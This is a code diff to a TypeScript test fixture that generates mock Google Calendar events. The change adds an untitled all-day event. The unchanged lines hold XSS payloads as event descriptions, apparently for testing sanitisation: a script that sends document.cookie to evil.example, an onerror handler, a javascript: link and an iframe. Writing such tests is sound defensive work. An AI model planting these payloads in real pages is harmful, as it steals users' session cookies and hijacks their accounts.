@@ -161,6 +161,8 @@ function makeEvents(calendarId: string, now: number, hostile: boolean): GoogleEv
       timed("hostile1", 10, "Hostile script", { description: 'Hello<script>fetch("https://evil.example/?c="+document.cookie)</script>' }),
       timed("hostile2", 11, "Hostile onerror", { description: '<img src=x onerror="alert(1)">Image' }),
       timed("hostile3", 12, "Hostile link", { description: '<a href="javascript:alert(1)">Click me</a> <iframe src="https://evil.example"></iframe>' }),
+      // Google leaves `summary` out of an event saved without a title.
+      resource(calendarId, "untitled", { start: { date: isoDate(at(13, 12)) }, end: { date: isoDate(at(14, 12)) }, location: "https://meet.example.org/founders" }),
     );
   }
   return events;
